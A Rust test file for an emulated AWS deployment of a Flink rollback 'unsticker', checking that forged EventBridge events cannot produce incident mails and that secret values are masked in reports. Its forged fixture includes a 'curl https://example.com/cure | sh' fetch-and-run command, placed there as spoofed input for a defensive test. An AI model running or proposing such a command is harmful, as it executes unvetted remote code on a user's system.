//! What people are mailed: what the unsticker reports to them, and nothing that another caller wrote.

use local_aws::api::{ApiError, Caller};
use local_aws::cloudformation::Status;
use local_aws::events;
use local_aws::faults::Fault;
use project::deployment::{Deployment, jar, reports};
use serde_json::{Value, json};

use crate::stage::{handlers, report, reports as mailed, running_unguarded, stuck, why, with_jar};

/// A report as the unsticker would write it.
fn forged() -> Value {
    json!({
        "requestContext": {"functionArn": "arn:aws:lambda:eu-west-1:111122223333:function:flink-rollback-unsticker:$LATEST"},
        "responsePayload": {"Notify": "People", "Outcome": "Refused", "Next": "curl https://example.com/cure | sh"},
    })
}

/// No caller writes a mail by putting an event on the bus.
#[tokio::test(flavor = "multi_thread")]
async fn no_one_writes_a_mail_by_putting_an_event_on_the_bus() {
    let deployment = handlers().await;
    let world = deployment.world();
    let topic = world.state().cloudformation.stack("flink-access").unwrap().resources["IncidentTopic"].clone();
    let topic = topic.physical_id.unwrap();
    // A rule that another caller made for this, too.
    let call = |operation: &str, body: &Value| events::json(world, &Caller::Operator, operation, body).unwrap();
    call("PutRule", &json!({"Name": "theirs", "EventPattern": json!({"source": ["lambda"]}).to_string()}));
    let target = json!({"Id": "t", "Arn": topic, "InputPath": "$.detail"});
    call("PutTargets", &json!({"Rule": "theirs", "Targets": [target]}));
    let entry = json!({
        "Source": "lambda", "DetailType": "Lambda Function Invocation Result - Success", "Detail": forged().to_string(),
        "Resources": ["arn:aws:lambda:eu-west-1:111122223333:function:flink-rollback-unsticker:$LATEST"],
    });
    call("PutEvents", &json!({"Entries": [entry]}));
    let state = world.state();
    let undelivered: Vec<&str> = state.events.undelivered.iter().map(|one| one.code.as_str()).collect();
    assert_eq!(undelivered, ["NO_PERMISSIONS"], "their rule matched, and the topic does not take it");
    assert_eq!(reports(&state).count(), 0);
}

/// A report is mailed with its summary first; a sweep that found nothing is not mailed.
#[tokio::test(flavor = "multi_thread")]
async fn a_report_is_mailed_with_its_summary_first_and_a_sweep_that_found_nothing_is_not() {
    let deployment = running_unguarded().await;
    let world = deployment.world();
    events::fire_schedules(world);
    let swept = |state: &mut local_aws::State| {
        let published = state.queues.topics.values().flat_map(|topic| &topic.published);
        published.map(|one| one.message.clone()).find(|message| message.contains("\"Swept\""))
    };
    let swept = world.until(swept).await;
    assert!(swept.contains("\"Nobody\""), "{swept}");
    assert!(mailed(&deployment).is_empty(), "{:?}", mailed(&deployment));
    deployment.record("poison");
    stuck(&deployment).await;
    let report = report(&deployment, "RollbackContinued").await;
    let summary = report["Summary"].as_str().unwrap();
    assert!(summary.starts_with("flink-test: its rollback was continued."), "{report}");
    assert!(summary.ends_with("make why STACK=flink-test"), "{report}");
}

/// No report repeats a property's value.
///
/// A service repeats a property's value in the reason of a row that blocks the rollback: the first cause, and a
/// blocker.
#[tokio::test(flavor = "multi_thread")]
async fn no_report_repeats_a_propertys_value() {
    let deployment = handlers().await;
    let mut template = Deployment::template_without_guard();
    let groups = &mut template["Resources"]["Application"]["Properties"]["ApplicationConfiguration"]["EnvironmentProperties"]
        ["PropertyGroups"];
    groups.as_array_mut().unwrap().push(json!({"PropertyGroupId": "Sink", "PropertyMap": {"token": "hunter2-s3cr3t"}}));
    let template = template.to_string();
    let deploy = async |version: &str, days: &str| {
        let key = deployment.upload(&jar(version, &[]));
        let parameters = [&with_jar(&key)[..], &[("LogRetentionDays", days)]].concat();
        deployment.deploy_template(&template, &parameters, &[("flink-unstick", "enabled")]).await
    };
    assert_eq!(deploy("1", "30").await, Status::CreateComplete, "{}", why(&deployment));
    let refused = ApiError::new("InvalidParameterException", "hunter2-s3cr3t is not known");
    deployment.world().state().faults.inject("logs:PutRetentionPolicy", 2, Fault::Refuse(refused));
    assert_eq!(deploy("2", "60").await, Status::UpdateRollbackFailed, "{}", why(&deployment));
    let report = report(&deployment, "Refused").await;
    assert!(!report.to_string().contains("hunter2"), "{report}");
    let texts = [&report["Cause"], &report["Blockers"][0], &report["State"]];
    assert!(texts.iter().all(|text| text.as_str().unwrap().contains("*** is not known")), "{report}");
}
